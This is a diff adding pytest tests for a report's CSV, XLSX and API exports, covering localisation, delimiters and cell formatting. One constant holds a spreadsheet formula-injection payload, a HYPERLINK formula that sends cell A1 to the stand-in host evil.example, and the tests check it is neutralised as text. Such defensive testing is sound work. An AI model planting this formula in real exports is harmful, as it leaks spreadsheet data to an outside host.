@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import zipfile
 from datetime import date, timedelta
 
 import pytest
@@ -196,9 +197,129 @@ def test_report_page_numbers_link_to_their_lists_and_export_xlsx(client, auth, m
     assert exported.status_code == 200
     sheet = load_workbook(io.BytesIO(exported.get_data()), read_only=True).active
     rows = list(sheet.iter_rows(values_only=True))
-    assert rows[0][:2] == ("asset_id", "title")
-    assert [r[1] for r in rows[1:]] == ["Прайс B", "Шаблон D", "'=Формула", "Deck C", "Каталог A"]
-    assert rows[1][rows[0].index("next_review_on")].date() == TODAY - timedelta(days=40)
+    assert rows[0][:2] == ("Number", "Asset")
+    assert [r[1] for r in rows[1:]] == ["Прайс B", "Шаблон D", "=Формула", "Deck C", "Каталог A"]
+    assert rows[1][rows[0].index("Next review")].date() == TODAY - timedelta(days=40)
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Прайс")'
+
+
+def _evil_title(db, asset_id: int) -> None:
+    with db.transaction() as session:
+        session.execute(update(Asset).where(Asset.id == asset_id).values(title=EVIL))
+
+
+def _csv(response) -> list[list[str]]:
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    data = response.get_data()
+    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads the Cyrillic right
+    text = data.decode("utf-8-sig")
+    delimiter = ";" if text.split("\r\n", 1)[0].count(";") else ","
+    return list(csv.reader(io.StringIO(text), delimiter=delimiter))
+
+
+def test_the_page_csv_speaks_the_readers_language_with_the_delimiter_their_excel_expects(
+    client, auth, db, make_user, library
+) -> None:
+    maria, _andrei, ids = library
+    _evil_title(db, ids["F"])
+    russian = make_user("sales", preferred_language="ru")
+    auth.login(russian.email)
+    page = client.get("/reports/staleness?kind=catalog&endpoint=x").get_data(as_text=True)
+    assert 'href="/reports/staleness.csv?kind=catalog"' in page  # only the filters travel into the links
+    assert 'href="/reports/staleness.csv?delimiter=,&amp;kind=catalog"' in page  # and the other delimiter
+
+    response = client.get("/reports/staleness.csv")
+    assert response.get_data().decode("utf-8-sig").split("\r\n", 1)[0].count(";") == 12
+    header, *rows = _csv(response)
+    assert header == [
+        "Номер", "Материал", "Тип", "Продукт", "Сегменты", "Ответственный", "Версия", "Последняя версия",
+        "Следующая проверка", "Актуальность", "Просрочка, дней", "Открытые отметки", "Текст для поиска",
+    ]  # fmt: skip
+    first = dict(zip(header, rows[0], strict=True))
+    assert first["Материал"] == "Прайс B" and first["Тип"] == "Каталог" and first["Актуальность"] == "есть отметки"
+    assert first["Текст для поиска"] == "да" and first["Сегменты"] == "B2B, B2G" and first["Ответственный"] == "Мария"
+    assert first["Следующая проверка"] == (TODAY - timedelta(days=40)).isoformat()
+    evil = next(r for r in rows if r[0] == str(ids["F"]))
+    assert evil[1] == "'" + EVIL and evil[12] == "нет"  # a formula shown as text, never run
+
+    commas = client.get("/reports/staleness.csv?delimiter=,&freshness=flagged")
+    assert _csv(commas)[0][0] == "Номер" and len(_csv(commas)) == 2
+    bad = client.get("/reports/staleness.csv?delimiter=|")
+    assert bad.status_code == 400 and "Разделитель" in bad.get_data(as_text=True)
+
+    auth.logout()
+    english = make_user("sales", preferred_language="en")
+    auth.login(english.email)
+    assert 'href="/reports/staleness.csv?delimiter=;"' in client.get("/reports/staleness").get_data(as_text=True)
+    header, *rows = _csv(client.get("/reports/staleness.csv"))
+    assert header[:3] == ["Number", "Asset", "Kind"] and header[-1] == "Searchable text"
+    assert rows[0][2] == "Catalog" and rows[0][9] == "flagged" and rows[0][12] == "yes"
+    assert len(_csv(client.get(f"/reports/staleness.csv?delimiter=;&owner={maria.id}"))) == 4
+
+
+def test_the_page_xlsx_is_ready_to_work_with(client, auth, db, make_user, library) -> None:
+    from openpyxl import load_workbook
+
+    _maria, _andrei, ids = library
+    _evil_title(db, ids["F"])
+    with db.transaction() as session:
+        session.execute(update(Asset).where(Asset.id == ids["A"]).values(title="Каталог A " + "очень длинный " * 9))
+    auth.login(make_user("sales", preferred_language="ru").email)
+    exported = client.get("/reports/staleness.xlsx")
+    assert exported.status_code == 200
+    book = load_workbook(io.BytesIO(exported.get_data()))
+    sheet = book.active
+    assert sheet.title == "Отчёт об актуальности"
+    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:M6"
+    header = [c.value for c in sheet[1]]
+    assert header[:4] == ["Номер", "Материал", "Тип", "Продукт"] and all(c.font.b for c in sheet[1])
+    widths = {column: sheet.column_dimensions[column].width for column in "ABCDEFGHIJKLM"}
+    assert widths["B"] == reports.MAX_COLUMN_WIDTH  # the longest title is longer: capped
+    assert widths["A"] == len("Номер") + 2 and widths["H"] == len("Последняя версия") + 2  # the header, a margin
+    assert widths["F"] == len("Ответственный") + 2 and widths["E"] == len("Сегменты") + 2
+    assert widths["C"] == len("Шаблон тендерной документации") + 2 and widths["J"] == len("пора проверить") + 2
+
+    by_id = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    assert set(by_id) == {ids[k] for k in "ABFCD"}  # numbers are numbers
+    price = by_id[ids["B"]]
+    assert price[1].hyperlink.target == f"http://localhost/assets/{ids['B']}"
+    assert price[2].value == "Каталог" and price[9].value == "есть отметки" and price[12].value == "да"
+    assert price[8].is_date and price[8].value.date() == TODAY - timedelta(days=40)
+    assert price[8].number_format == price[7].number_format == "dd.mm.yyyy"
+    assert price[10].value == 40 and price[11].value == 2 and price[6].value == 1
+    evil = by_id[ids["F"]]
+    assert evil[1].value == EVIL and evil[1].data_type == "s"  # the title as typed, as text
+    assert evil[1].hyperlink.target == f"http://localhost/assets/{ids['F']}"
+    with zipfile.ZipFile(io.BytesIO(exported.get_data())) as package:
+        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()  # no formula anywhere
+
+    auth.logout()
+    auth.login(make_user("sales", preferred_language="en").email)
+    english = load_workbook(io.BytesIO(client.get("/reports/staleness.xlsx?kind=catalog").get_data())).active
+    assert english.title == "Staleness report" and english.auto_filter.ref == "A1:M3"
+    assert [c.value for c in english[1]][-1] == "Searchable text" and english["J2"].value == "flagged"
+    assert english["I2"].number_format == "yyyy-mm-dd"
+
+
+def test_the_api_keeps_the_codes_and_a_comma(client, db, make_user, library) -> None:
+    _maria, _andrei, ids = library
+    _evil_title(db, ids["F"])
+    user = make_user("sales", preferred_language="ru")
+    headers = {"Authorization": f"Bearer {accounts.create_token(db, user.id, 'crm').secret}", "Accept-Language": "ru"}
+    header, *rows = _csv(client.get("/api/v1/reports/staleness.csv", headers=headers))
+    assert tuple(header) == reports.COLUMNS
+    first = dict(zip(header, rows[0], strict=True))
+    assert (first["kind"], first["freshness"], first["has_text"]) == ("catalog", "flagged", "yes")
+    assert next(r for r in rows if r[0] == str(ids["F"]))[1] == "'" + EVIL
+    semicolons = client.get("/api/v1/reports/staleness.csv?delimiter=;", headers=headers)
+    assert semicolons.get_data().decode("utf-8-sig").startswith("asset_id;title;kind;")
+    bad = client.get("/api/v1/reports/staleness.csv?delimiter=tab", headers=headers)
+    assert bad.status_code == 400 and bad.json["error"]["field"] == "delimiter"
+    body = client.get("/api/v1/reports/staleness", headers=headers).json
+    assert body["assets"][0]["freshness"] == "flagged" and body["assets"][0]["kind"] == "catalog"
+    assert next(a for a in body["assets"] if a["asset_id"] == ids["F"])["title"] == EVIL  # JSON is data, as typed
 
 
 def test_fresh_share_trend_is_rebuilt_from_history(app, db, make_user) -> None:
